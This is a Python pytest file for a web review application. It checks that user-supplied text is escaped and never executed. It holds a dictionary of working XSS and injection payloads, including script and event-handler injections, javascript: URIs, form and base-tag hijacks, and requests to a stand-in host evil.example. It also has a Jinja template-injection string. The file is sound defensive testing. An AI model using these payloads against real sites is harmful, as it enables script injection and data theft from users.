"""Hostile texts on the pages: shown as they are, and nothing of them runs."""

from __future__ import annotations

import contextlib
import html
import shutil
import socket
import threading
import time
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from urllib.parse import quote

import pytest
import uvicorn
from anyio.from_thread import BlockingPortal
from fastapi import FastAPI
from fastapi.testclient import TestClient
from sqlalchemy import update
from sqlmodel import col

from readvault.adapters.identity import EmbeddedIssuer, Identity
from readvault.api.app import create_app
from readvault.db.tables import EntryFile, Group
from readvault.domain.annotations import Annotation, Field, FieldType, Reason
from readvault.domain.identifiers import AccessionVersion
from readvault.services.house import House
from readvault.services.people.accounts import create_account
from readvault.services.processing import jobs
from readvault.services.review.approval import Scope, approve
from readvault.services.review.sending_back import send_back
from readvault.web.mounting import add_pages
from tests.houses import ALICE
from tests.integration.api.browser import Browser
from tests.integration.api.hostile import PAYLOADS
from tests.integration.services import scenes

ORGANISM = "/web/organisms/sars-cov-2"
ACTIVE = {
    "script in attribute": "\"'><script>alert(document.domain)</script>",
    "event": "' onmouseover=alert(1) autofocus onfocus=alert(1) x='",
    "unquoted": " onerror=alert(1) ",
    "svg": "<svg/onload=alert(1)>",
    "svg animate": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "iframe": "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "link": '<a href="javascript:alert(1)" id=name>click</a>',
    "javascript": "javascript:alert(1)",
    "data": "data:text/html,<script>alert(1)</script>",
    "meta": '<meta http-equiv=refresh content="0;url=http://evil.example/">',
    "base": '<base href="http://evil.example/">',
    "form": '</form><form action="http://evil.example/"><button autofocus>Approve</button>',
    "close title": "</title></textarea></style></script><img src=x onerror=alert(1)>",
    "comment": "--><!--><script>alert(1)</script>",
    "jinja": "{{ ''.__class__.__mro__ }}{% include 'base.html' %}",
    "entity": "&lt;script&gt;alert(1)&lt;/script&gt;&#x3c;img src=x onerror=alert(1)&#x3e;",
    "import": "<style>@import 'http://evil.example/x.css';</style>",
    "image": '<img src="http://evil.example/pixel.png">',
    "math": "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "prototype": '<input name="csrf" value=""><input name=action value=approve>',
}
ODD = ("crlf header", "terminal", "c1", "right to left", "line separator", "quotes", "long")
ALL = {**ACTIVE, **{name: PAYLOADS[name] for name in ODD}}


def _planted(house: House, group_id: int, text: str, batch_id: str = "plate") -> list[AccessionVersion]:
    """One entry to review, one sent back and one released, with the text wherever somebody can put one."""
    said = Annotation(Reason.LOW_DEPTH, f"m{text}", (Field(FieldType.METADATA, f"f{text}"),), file=f"l{text}", line=1)
    made = {f"p{text}": f"w{text}", "platform": f"x{text}", "reference": f"r{text}", "qualityControlIssues": text}
    names = []
    for number in range(3):
        name, job_id = scenes.entry(
            house,
            group_id,
            batch_id=batch_id,
            submission_id=f"i{text}",
            submitter=f"u{text}",
            version_comment=f"c{text}",
            submitted_metadata={f"k{text}": f"v{text}", "date": text},
        )
        claim = scenes.claimed(house, job_id)
        result = scenes.result(house, claim, warnings=(said,) if number else ())
        files = tuple(replace(file, name=f"o{text}", category=f"q{text}") for file in result.files)
        listed = [{"category": f.category, "name": f.name, "size": f.size, "sha256": f.sha256} for f in files]
        data = {**result.processed_data, "metadata": made}
        manifest = {**result.manifest, "files": listed}
        jobs.register(house, claim, replace(result, manifest=manifest, processed_data=data, files=files))
        names.append(name)
    with house.sessions.begin() as session:
        session.get_one(Group, group_id).name = f"g{text}"
        session.execute(
            update(EntryFile)
            .where(col(EntryFile.accession).in_([name.accession for name in names]))
            .values(name=f"n{text}", category=f"t{text}")
        )
    send_back(house, ALICE, scenes.ORGANISM, [(names[1], None)], f"b{text}")
    approve(house, ALICE, scenes.ORGANISM, scope=Scope.ALL, accession_versions=[(names[2], None)])
    return names


def _paths(names: list[AccessionVersion], batch_id: str = "plate") -> list[str]:
    entries = [f"{ORGANISM}/entries/{name.accession}/{name.version}" for name in names]
    return ["/web", ORGANISM, f"{ORGANISM}/entries", f"{ORGANISM}/batches/{quote(batch_id)}?choose=good", *entries]


@pytest.fixture
def site(house: House, issuer: EmbeddedIssuer) -> FastAPI:
    create_account(house, "alice", "password")
    identity = Identity(issuer)
    return add_pages(create_app(house, identity), house, identity)


@pytest.mark.slow
def test_hostile_texts_are_shown_and_do_not_run(house: House, site: FastAPI, portal: BlockingPortal) -> None:
    client = TestClient(site, follow_redirects=False, raise_server_exceptions=False)
    client.portal = portal
    browser = Browser(client)
    browser.log_in("alice", "password")
    for name, text in ALL.items():
        names = _planted(house, scenes.group(house, "alice"), text, batch_id=name)
        shown = ""
        for path in _paths(names, name):
            page = browser.get(path)
            assert (page.status, page.runnable) == (200, []), name
            assert {form.action.partition("?")[0] for form in page.forms} <= {"/web/logout", path.partition("?")[0]}
            shown += html.unescape(page.html)
        for letter in "iumfvknotqpwxrcg":
            assert letter + text in shown, (name, letter)
        assert f"b{text}".strip() in shown, name


@pytest.mark.slow
def test_hostile_texts_in_addresses_and_forms_come_back_harmless(
    house: House, site: FastAPI, portal: BlockingPortal
) -> None:
    scenes.processed(house, scenes.group(house, "alice"), batch_id="plate")
    client = TestClient(site, follow_redirects=False, raise_server_exceptions=False)
    client.portal = portal
    browser = Browser(client)
    for text in list(ACTIVE.values())[:3]:
        page = browser.send(browser.get("/web/login", next=text), "submit", name=text, password=text)
        assert (page.status, page.runnable) == (401, [])
    browser.log_in("alice", "password")
    batch = browser.get(f"{ORGANISM}/batches/plate")
    for text in ALL.values():
        for page in (
            browser.get(ORGANISM, before=text),
            browser.get(f"{ORGANISM}/batches/plate", done=text, choose=text),
            browser.get("/web/callback", state=text, code=text),
            browser.send(batch, "approve", chosen=[text]),
            browser.send(batch, "send-back", chosen=["LOC_1.1:" + "0" * 64], reason=text),
            browser.send(batch, "approve", chosen=[], action=text),
        ):
            assert page.status in (400, 403, 422), page.path
            assert page.runnable == []


@contextlib.contextmanager
def served(app: FastAPI) -> Iterator[str]:
    """The app on a port of this machine."""
    listening = socket.socket()
    listening.bind(("127.0.0.1", 0))
    server = uvicorn.Server(uvicorn.Config(app, log_config=None, access_log=False))
    thread = threading.Thread(target=server.run, kwargs={"sockets": [listening]})
    thread.start()
    try:
        while not server.started:
            time.sleep(0.01)
        yield f"http://127.0.0.1:{listening.getsockname()[1]}"
    finally:
        server.should_exit = True
        thread.join()
        listening.close()


@pytest.mark.slow
@pytest.mark.skipif(shutil.which("chromium") is None, reason="there is no Chromium here")
def test_a_real_browser_opens_no_dialog_and_asks_nobody_else(house: House, site: FastAPI, tmp_path: Path) -> None:
    from tests.chromium import Chromium

    names = _planted(house, scenes.group(house, "alice"), "".join(ACTIVE.values()))
    with served(site) as address:
        chromium = Chromium(tmp_path / "chromium")
        try:
            chromium.get(f"{address}/web/login")
            chromium.fill("#name", "alice")
            chromium.fill("#password", "password")
            chromium.click("main button")
            for path in _paths(names):
                chromium.get(address + path)
                chromium.run("document.querySelectorAll('*').forEach((each) => { each.focus(); })")
                chromium.wait(0.1)
                assert chromium.address == address + path
                assert "alert(1)" in chromium.text or path == "/web"
        finally:
            chromium.close()
    assert chromium.dialogs == []
    assert chromium.complaints == []
    assert all(request.startswith((address, "about:")) for request in chromium.requests)


@pytest.mark.slow
@pytest.mark.skipif(shutil.which("chromium") is None, reason="there is no Chromium here")
def test_a_plate_is_approved_in_a_real_browser(house: House, site: FastAPI, tmp_path: Path) -> None:
    """Log in, look, be told that something changed, approve, see it released; with scripts and without."""
    from tests.chromium import Chromium

    mine = scenes.group(house, "alice")
    plate = [scenes.processed(house, mine, files=(), batch_id="plate")[0] for _ in range(8)]
    released = "document.querySelectorAll('.badge.APPROVED_FOR_RELEASE').length"
    with served(site) as address:
        chromium = Chromium(tmp_path / "chromium")
        try:
            chromium.get(f"{address}{ORGANISM}/batches/plate")
            assert chromium.address.startswith(f"{address}/web/login?next=")
            chromium.fill("#name", "alice")
            chromium.fill("#password", "password")
            chromium.click("main button")
            assert chromium.address == f"{address}{ORGANISM}/batches/plate"
            assert "0 chosen" in chromium.text
            chromium.run("document.querySelector('input[name=chosen]').click()")
            assert "1 chosen" in chromium.text
            chromium.run(f"document.querySelector('input[name=chosen]').value = '{plate[0]}:{'0' * 64}'")
            chromium.click("button[value=approve]")
            assert "have changed since they were reviewed" in chromium.text
            assert chromium.run(released) == 0
            chromium.get(f"{address}{ORGANISM}/batches/plate?choose=good")
            chromium.click("button[value=approve]")
            assert "Released: 8." in chromium.text
            assert chromium.run(released) == 8
            assert chromium.run("document.cookie") == ""
            chromium.click(".who button")
            chromium.get(f"{address}{ORGANISM}")
            assert "/web/login" in chromium.address
        finally:
            chromium.close()
    assert chromium.dialogs == []
